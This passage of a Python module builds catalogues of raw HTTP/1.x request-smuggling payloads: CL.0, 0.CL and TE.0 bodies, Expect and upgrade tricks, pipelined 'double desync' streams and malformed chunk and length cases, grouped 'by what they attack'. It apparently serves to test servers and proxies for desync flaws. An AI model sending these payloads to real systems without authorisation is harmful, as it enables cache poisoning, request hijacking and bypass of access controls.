            (b"host on 1.0 " + lines[:60], b"GET /a HTTP/1.0\r\n" + lines + b"\r\n"),
            (b"host beside an absolute target " + lines[:60], b"GET http://h/a HTTP/1.1\r\n" + lines + b"\r\n" + NEXT),
        ]
    return _named(entries)


def _bodies() -> Family:
    """CL.0, 0.CL, TE.0 and the like: bodies where some reader expects none."""
    entries = []
    for method in _METHODS:
        first = method + b" /a HTTP/1.1"
        entries += [
            (b"CL.0 " + method, ask(sized(HIDDEN), HIDDEN, first) + NEXT),
            (b"TE.0 " + method, ask(PIECES, CHUNK, first) + NEXT),
            (b"0.CL " + method, ask(b"Content-Length: 0\r\n", HIDDEN, first)),
            (b"none " + method, ask(b"", HIDDEN, first)),
            (
                b"upgrade " + method,
                ask(b"Upgrade: h2c\r\nConnection: Upgrade\r\n" + sized(HIDDEN), HIDDEN, first) + NEXT,
            ),
        ]
    for value in _EXPECTATIONS:
        line = b"Expect: " + value + b"\r\n"
        entries += [
            (b"Expect and CL " + value, ask(line + sized(HIDDEN), HIDDEN) + NEXT),
            (b"Expect and TE " + value, ask(line + PIECES, CHUNK) + NEXT),
            (b"Expect without a body " + value, ask(line, HIDDEN, b"GET /a HTTP/1.1")),
            (b"Expect on 1.0 " + value, ask(line + sized(HIDDEN), HIDDEN, b"POST /a HTTP/1.0")),
            (
                b"Expect and 0.CL " + value,
                ask(line + b"Content-Length : %d\r\n" % len(HIDDEN), HIDDEN, b"GET /a HTTP/1.1"),
            ),
        ]
    return _named(entries)


def _streams() -> Family:
    """More than one request on one connection."""
    closing = b"GET /a HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n"
    double = b"POST /a HTTP/1.1\r\nHost: h\r\nContent-Length: %d\r\n\r\n" % len(HIDDEN)
    return {
        "three at once": NEXT * 3,
        "twenty at once": NEXT * 20,
        "a hundred at once": NEXT * 100,
        "one that is cut off": NEXT + b"GET /cut HT",
        "a body that is cut off": NEXT + ask(sized(b"", 100), b"abc"),
        "chunks that are cut off": NEXT + ask(PIECES, b"5\r\nab"),
        "after the last one": closing + HIDDEN,
        "an empty line after the last one": closing + b"\r\n",
        "after the last one with a body": ask(b"Connection: close\r\n" + sized(b"abc"), b"abc") + HIDDEN,
        "after the last one in chunks": ask(b"Connection: close\r\n" + PIECES, CHUNK) + HIDDEN,
        "after one of HTTP/1.0": b"GET /a HTTP/1.0\r\nHost: h\r\n\r\n" + HIDDEN,
        "after one of HTTP/1.0 that stays": b"GET /a HTTP/1.0\r\nHost: h\r\nConnection: keep-alive\r\n\r\n" + NEXT,
        "double desync": double + HIDDEN + double + HIDDEN,
        "a body that looks like a head": ask(sized(NEXT * 2), NEXT * 2) + NEXT,
        "a body that looks like chunks": ask(sized(CHUNK), CHUNK) + NEXT,
        "chunks that look like requests": ask(PIECES, CHUNK) * 3,
        "empty lines between": NEXT + b"\r\n\r\n" + NEXT + b"\r\n" + NEXT,
        "line feeds between": NEXT + b"\n\n" + NEXT,
        "empty lines after a body": ask(sized(b"abc"), b"abc\r\n") + NEXT,
        "an end too much after chunks": ask(PIECES, CHUNK + b"\r\n") + NEXT,
        "a last chunk too much": ask(PIECES, CHUNK + NO_CHUNKS) + NEXT,
        "one byte too much": ask(sized(b"abc"), b"abcd") + NEXT,
        "one byte too few": ask(sized(b"abc"), b"ab") + NEXT,
        "HEAD between": NEXT + b"HEAD /head HTTP/1.1\r\nHost: h\r\n\r\n" + NEXT,
        "HEAD with a body": b"HEAD /head HTTP/1.1\r\nHost: h\r\nContent-Length: 3\r\n\r\nabc" + NEXT,
        "wrong after right": NEXT + ask(b"X : y\r\n") + NEXT,
        "wrong chunks after right": NEXT + ask(PIECES, b"5\nabcde\r\n0\r\n\r\n") + NEXT,
        "an upgrade that is not taken": ask(b"Upgrade: h2c\r\nConnection: Upgrade\r\n", NEXT, b"GET /a HTTP/1.1"),
        "an upgrade with a body, then HTTP/2":
            ask(b"Upgrade: h2c\r\nConnection: Upgrade\r\n" + sized(b"abc"), b"abc")
            + b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        "an upgrade with chunks": ask(b"Upgrade: websocket\r\nConnection: Upgrade\r\n" + PIECES, CHUNK) + NEXT,
        "an upgrade with a length and chunks":
            ask(b"Upgrade: websocket\r\nConnection: Upgrade\r\n" + PIECES + sized(CHUNK), CHUNK) + NEXT,
        "upgrades one after the other":
            ask(b"Upgrade: x\r\nConnection: Upgrade\r\n", b"", b"GET /a HTTP/1.1") * 5 + NEXT,
        "a continue that nobody waits for": ask(b"Expect: 100-continue\r\n" + sized(b"abc"), b"abc") + NEXT,
        "a continue and the next at once": ask(b"Expect: 100-continue\r\n" + sized(HIDDEN), HIDDEN) * 2 + NEXT,
        "the same head again with another body": ask(sized(b"abc"), b"abc") + ask(sized(b"abc"), b"def") + NEXT,
        "the same head, then one that only begins like it": NEXT * 2 + NEXT[:-2] + b"X : y\r\n\r\n",
        "the same fields, and more": NEXT * 2 + NEXT[:-2] + b"Content-Length: 3\r\n\r\nabc" + NEXT,
    }  # fmt: skip


CATEGORIES: dict[str, Family] = {
    "transfer codings": _codings(), "lengths": _lengths(), "chunks": _chunks(), "lines and fields": _lines(),
    "hosts": _hosts(),
    "bodies and expectations": _bodies(), "several requests": _streams(),
}  # fmt: skip
"""All entries, by what they attack."""
